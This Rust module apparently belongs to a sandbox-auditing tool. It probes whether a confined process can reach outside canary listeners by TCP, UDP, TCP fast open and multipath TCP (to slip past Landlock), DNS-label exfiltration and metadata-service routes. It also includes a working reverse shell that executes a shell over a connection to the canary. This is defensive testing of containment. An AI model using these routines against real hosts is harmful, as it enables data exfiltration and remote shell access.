//! Tries to send something to the launcher's canaries: by TCP, UDP, as a name query, as a shell.

pub(crate) mod routes;
pub(crate) mod sockets;

use std::net::{IpAddr, SocketAddr};

use casemate_core::finding::{Category, EndpointKind, Layer};
use casemate_linux::raw::{Child, Errno};

use crate::attribute::Via;
use crate::check::Check;
use crate::primitive;
use crate::trial::{Outcome, Trial};

const fn check(id: &'static str, title: &'static str, try_it: fn(&mut Trial<'_>)) -> Check {
    Check::new(Category::Egress, id, title, try_it)
}

pub(crate) const CHECKS: &[Check] = &[
    check("EG-01", "TCP over IPv4 to a canary", tcp4)
        .techniques(&["T1041", "AML.T0025"])
        .tries("connect() to the witness's IPv4 listeners, then send one line")
        .open_means("a program in the stage can send weights and prompts to any host by TCP")
        .control("connect() to an own listener on 127.0.0.1, or to a port that the plan grants"),
    check("EG-02", "TCP over IPv6 to a canary", tcp6)
        .techniques(&["T1041", "AML.T0025"])
        .tries("connect() to the witness's IPv6 listeners, then send one line")
        .open_means("the same, around rules that were written for IPv4 only")
        .control("connect() to an own listener on ::1, or the same address on a datagram socket"),
    check("EG-03", "UDP to a canary", udp)
        .techniques(&["T1048", "AML.T0025"])
        .tries("sendto() unconnected and send() connected, IPv4 and IPv6, and wait for the answer")
        .open_means("a program in the stage can send datagrams out")
        .control("a datagram to an own socket on loopback arrives"),
    check("EG-08", "TCP fast open and multipath TCP to a canary", odd_tcp)
        .techniques(&["T1095", "AML.T0025"])
        .tries("sendto(MSG_FASTOPEN) and a multipath TCP socket, which Landlock's TCP rules do not see")
        .open_means("rules about TCP connections are gone around by asking for TCP in another way")
        .control("connect() to an own listener on 127.0.0.1, or to a port that the plan grants"),
    check("EG-12", "a name query to a canary", name_query)
        .techniques(&["T1071.004", "T1048.003", "AML.T0025"])
        .tries("a DNS query with a long label to the witness; routes to the resolvers of resolv.conf")
        .open_means("data can leave as names that are looked up")
        .control("a datagram to an own socket on loopback arrives"),
    check("EG-14", "routes to metadata services", metadata)
        .techniques(&["T1552.005", "AML.T0075"])
        .tries("connect() of a datagram socket, which asks for a route and sends nothing")
        .open_means("the stage may reach the cloud's metadata service and the host's credentials")
        .control("the same question about 127.0.0.1 finds a route"),
    check("EG-32", "a reverse shell to a canary", reverse_shell)
        .techniques(&["T1059", "AML.T0072"])
        .tries("connect() to the witness, then execute a shell with the connection as its input and output")
        .open_means("an attacker outside gets a shell in the stage")
        .control("connect() to an own listener on 127.0.0.1, or to a port that the plan grants"),
];

fn tcp4(trial: &mut Trial<'_>) {
    control_tcp(trial, libc::AF_INET);
    to_endpoints(trial, EndpointKind::Tcp, |child, address, greeting| {
        reach_tcp(child, address, greeting)
    });
}

fn tcp6(trial: &mut Trial<'_>) {
    control_tcp(trial, libc::AF_INET6);
    to_endpoints(trial, EndpointKind::Tcp, |child, address, greeting| {
        reach_tcp(child, address, greeting)
    });
}

fn udp(trial: &mut Trial<'_>) {
    control_udp(trial);
    to_endpoints(trial, EndpointKind::Udp, |child, address, greeting| {
        reach_udp(child, address, greeting, Datagram::Unconnected)
    });
    to_endpoints(trial, EndpointKind::Udp, |child, address, greeting| {
        reach_udp(child, address, greeting, Datagram::Connected)
    });
}

fn odd_tcp(trial: &mut Trial<'_>) {
    control_tcp(trial, libc::AF_INET);
    to_endpoints(trial, EndpointKind::Tcp, |child, address, greeting| {
        let via = Via::call(libc::SYS_sendto).network();
        match primitive::socket(child, primitive::domain(address), libc::SOCK_STREAM, 0) {
            Err(errno) => Outcome::Refused(errno, via),
            Ok(socket) => {
                primitive::set_patience(child, socket, 400);
                let to = primitive::socket_address(address);
                match primitive::send_to(child, socket, greeting, libc::MSG_FASTOPEN, Some(&to)) {
                    Err(errno) => Outcome::Refused(errno, via),
                    Ok(_) => answered(child, socket, greeting),
                }
            }
        }
    });
    to_endpoints(trial, EndpointKind::Tcp, |child, address, greeting| {
        let domain = primitive::domain(address);
        match primitive::socket(child, domain, libc::SOCK_STREAM, libc::IPPROTO_MPTCP) {
            Err(Errno(libc::ENOPROTOOPT)) => {
                Outcome::Absent("switched off for this namespace".to_owned())
            }
            Err(errno) => {
                Outcome::Refused(errno, Via::call(libc::SYS_socket).network().only_filter())
            }
            Ok(socket) => reach_by(child, socket, address, greeting),
        }
    });
}

fn name_query(trial: &mut Trial<'_>) {
    control_udp(trial);
    to_endpoints(trial, EndpointKind::Udp, |child, address, greeting| {
        // The greeting travels as the one label of a question for a text record.
        let mut query = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
        let label: Vec<u8> = greeting.iter().copied().take(63).collect();
        query.push(u8::try_from(label.len()).unwrap_or(63));
        query.extend(label);
        query.extend([0, 0, 16, 0, 1]);
        query.extend(greeting);
        reach_udp(child, address, &query, Datagram::Unconnected)
    });
    let resolvers = std::fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let named: Vec<IpAddr> = resolvers
        .lines()
        .filter_map(|line| line.strip_prefix("nameserver")?.trim().parse().ok())
        .filter(|address: &IpAddr| !address.is_loopback())
        .take(4)
        .collect();
    for address in named {
        trial.step(format_args!("route to resolver {address}"), |child| {
            route(child, address)
        });
    }
}

fn metadata(trial: &mut Trial<'_>) {
    let loopback = match route(trial.child, IpAddr::V4(std::net::Ipv4Addr::LOCALHOST)) {
        Outcome::Open(_) => Ok(String::new()),
        _ => Err("no route to loopback".to_owned()),
    };
    trial.control("route to 127.0.0.1", loopback);
    let lookups = trial.scene.order.canaries.lookups.clone();
    if lookups.is_empty() {
        trial.step(
            "no addresses were named",
            |_| Outcome::Unsure(String::new()),
        );
    }
    for address in lookups {
        trial.step(format_args!("route to {address}"), |child| {
            route(child, address)
        });
    }
}

fn reverse_shell(trial: &mut Trial<'_>) {
    control_tcp(trial, libc::AF_INET);
    to_endpoints(trial, EndpointKind::Tcp, |child, address, greeting| {
        let via = Via::call(libc::SYS_connect).network();
        let socket =
            match primitive::socket(child, primitive::domain(address), libc::SOCK_STREAM, 0) {
                Ok(socket) => socket,
                Err(errno) => return Outcome::Refused(errno, via),
            };
        primitive::set_patience(child, socket, 400);
        let to = primitive::socket_address(address);
        if let Err(errno) = primitive::connect(child, socket, &to) {
            return Outcome::Refused(errno, via);
        }
        if primitive::send_to(child, socket, greeting, 0, None).is_err() {
            return Outcome::Unsure("connected, but nothing could be sent".to_owned());
        }
        match crate::execution::run_shell(child, Some(socket)) {
            Ok(7) => Outcome::Open("a shell ran with the connection as its terminal".to_owned()),
            Ok(status) => Outcome::Open(format!("connected; the shell ended with {status}")),
            Err(errno) => Outcome::Open(format!(
                "connected, though no shell could be executed: {errno}"
            )),
        }
    });
}

/// Shows that TCP connections work where they must, so that a refusal elsewhere means something.
pub(crate) fn control_tcp(trial: &Trial<'_>, version: i32) {
    let child = trial.child;
    let own = primitive::own_listener(child, version).and_then(|(_, address)| {
        let socket = primitive::socket(child, version, libc::SOCK_STREAM, 0)?;
        primitive::set_patience(child, socket, 400);
        primitive::connect(child, socket, &primitive::socket_address(address))?;
        Ok(address)
    });
    let refused = match own {
        Ok(address) => {
            trial.control("connect to an own listener", Ok(address.to_string()));
            return;
        }
        Err(errno) => errno,
    };
    for port in trial.scene.order.grants.connects.iter().take(2) {
        let address = SocketAddr::from(([127, 0, 0, 1], *port));
        let answer =
            primitive::socket(child, libc::AF_INET, libc::SOCK_STREAM, 0).and_then(|socket| {
                primitive::set_patience(child, socket, 400);
                primitive::connect(child, socket, &primitive::socket_address(address))
            });
        if matches!(answer, Ok(_) | Err(Errno(libc::ECONNREFUSED))) {
            trial.control("connect to a granted port", Ok(address.to_string()));
            return;
        }
    }
    // Where the plan grants no connection at all, the same call on a datagram socket shows that the
    // address is understood; nothing is sent by it.
    let address = if version == libc::AF_INET {
        SocketAddr::from(([127, 0, 0, 1], 9))
    } else {
        SocketAddr::from((std::net::Ipv6Addr::LOCALHOST, 9))
    };
    let answer = primitive::socket(child, version, libc::SOCK_DGRAM, 0)
        .and_then(|socket| primitive::connect(child, socket, &primitive::socket_address(address)));
    trial.control(
        format_args!("own listener gave {refused}; connect of a datagram socket"),
        answer
            .map(|_| address.to_string())
            .map_err(|errno| errno.to_string()),
    );
}

fn control_udp(trial: &Trial<'_>) {
    let child = trial.child;
    let arrived = primitive::own_receiver(child, libc::AF_INET).and_then(|(receiver, address)| {
        let sender = primitive::socket(child, libc::AF_INET, libc::SOCK_DGRAM, 0)?;
        primitive::set_patience(child, receiver, 400);
        primitive::send_to(
            child,
            sender,
            b"own",
            0,
            Some(&primitive::socket_address(address)),
        )?;
        primitive::receive(child, receiver)
    });
    trial.control(
        "a datagram to an own socket",
        match arrived {
            Ok(bytes) if bytes == b"own" => Ok(String::new()),
            Ok(bytes) => Err(format!("{} bytes of something else", bytes.len())),
            Err(errno) => Err(errno.to_string()),
        },
    );
}

/// Takes one step for each endpoint of this check, within the budget.
fn to_endpoints(
    trial: &mut Trial<'_>,
    kind: EndpointKind,
    reach: impl Fn(&Child, SocketAddr, &[u8]) -> Outcome,
) {
    let addresses: Vec<SocketAddr> = trial
        .scene
        .order
        .endpoints(trial.check)
        .filter(|endpoint| endpoint.kind == kind)
        .filter_map(casemate_core::finding::Endpoint::socket_address)
        .collect();
    if addresses.is_empty() {
        trial.step("no canary was named", |_| Outcome::Unsure(String::new()));
    }
    let greeting = trial.greeting();
    for address in addresses {
        if trial.may_send() {
            trial.step(address, |child| reach(child, address, &greeting));
        } else {
            trial.step(address, |_| {
                Outcome::Unsure("the budget of sends is used up".to_owned())
            });
        }
    }
}

pub(crate) fn reach_tcp(child: &Child, address: SocketAddr, greeting: &[u8]) -> Outcome {
    match primitive::socket(child, primitive::domain(address), libc::SOCK_STREAM, 0) {
        Err(errno) => Outcome::Refused(errno, Via::call(libc::SYS_socket).network()),
        Ok(socket) => reach_by(child, socket, address, greeting),
    }
}

fn reach_by(child: &Child, socket: i64, address: SocketAddr, greeting: &[u8]) -> Outcome {
    primitive::set_patience(child, socket, 400);
    if let Err(errno) = primitive::connect(child, socket, &primitive::socket_address(address)) {
        return Outcome::Refused(errno, Via::call(libc::SYS_connect).network());
    }
    if let Err(errno) = primitive::send_to(child, socket, greeting, libc::MSG_NOSIGNAL, None) {
        return Outcome::Unsure(format!("connected, then {errno}"));
    }
    answered(child, socket, greeting)
}

/// Whether it was the witness that answered: something inside may listen on the same port.
pub(crate) fn answered(child: &Child, socket: i64, greeting: &[u8]) -> Outcome {
    match primitive::receive(child, socket) {
        Ok(answer) if crate::witness::is_answer(&answer, greeting) => {
            Outcome::Open("the witness answered".to_owned())
        }
        Ok(_) | Err(Errno(libc::ECONNRESET | libc::EPIPE)) => Outcome::Blocked(
            Layer::Netns,
            "something inside listens there, not the witness".to_owned(),
        ),
        Err(errno) => Outcome::Unsure(format!("connected, no answer: {errno}")),
    }
}

#[derive(Clone, Copy)]
enum Datagram {
    Connected,
    Unconnected,
}

fn reach_udp(child: &Child, address: SocketAddr, bytes: &[u8], how: Datagram) -> Outcome {
    let via = Via::call(libc::SYS_sendto).network();
    let socket = match primitive::socket(child, primitive::domain(address), libc::SOCK_DGRAM, 0) {
        Ok(socket) => socket,
        Err(errno) => return Outcome::Refused(errno, Via::call(libc::SYS_socket).network()),
    };
    primitive::set_patience(child, socket, 150);
    let to = primitive::socket_address(address);
    let sent = match how {
        Datagram::Connected => primitive::connect(child, socket, &to)
            .and_then(|_| primitive::send_to(child, socket, bytes, 0, None)),
        Datagram::Unconnected => primitive::send_to(child, socket, bytes, 0, Some(&to)),
    };
    if let Err(errno) = sent {
        return Outcome::Refused(errno, via);
    }
    match primitive::receive(child, socket) {
        Ok(answer) if crate::witness::is_answer(&answer, bytes) => {
            Outcome::Open("the witness answered".to_owned())
        }
        Ok(_) => Outcome::Blocked(
            Layer::Netns,
            "something inside answered, not the witness".to_owned(),
        ),
        Err(Errno(libc::ECONNREFUSED)) => Outcome::Blocked(
            Layer::Netns,
            "nobody has this port in the own namespace".to_owned(),
        ),
        Err(Errno(libc::EAGAIN)) if address.ip().is_loopback() => Outcome::Blocked(
            Layer::Netns,
            "sent within the own loopback; no answer".to_owned(),
        ),
        Err(errno) => Outcome::Unsure(format!("sent, no answer: {errno}")),
    }
}

/// Asks the kernel for a route to `address`. A datagram socket is connected, which sends nothing.
pub(crate) fn route(child: &Child, address: IpAddr) -> Outcome {
    let address = SocketAddr::new(address, 80);
    match primitive::socket(child, primitive::domain(address), libc::SOCK_DGRAM, 0) {
        Err(errno) => Outcome::Refused(errno, Via::call(libc::SYS_socket).network()),
        Ok(socket) => {
            match primitive::connect(child, socket, &primitive::socket_address(address)) {
                Ok(_) => Outcome::Open("the kernel has a route".to_owned()),
                Err(errno) => Outcome::Refused(errno, Via::call(libc::SYS_connect).network()),
            }
        }
    }
}
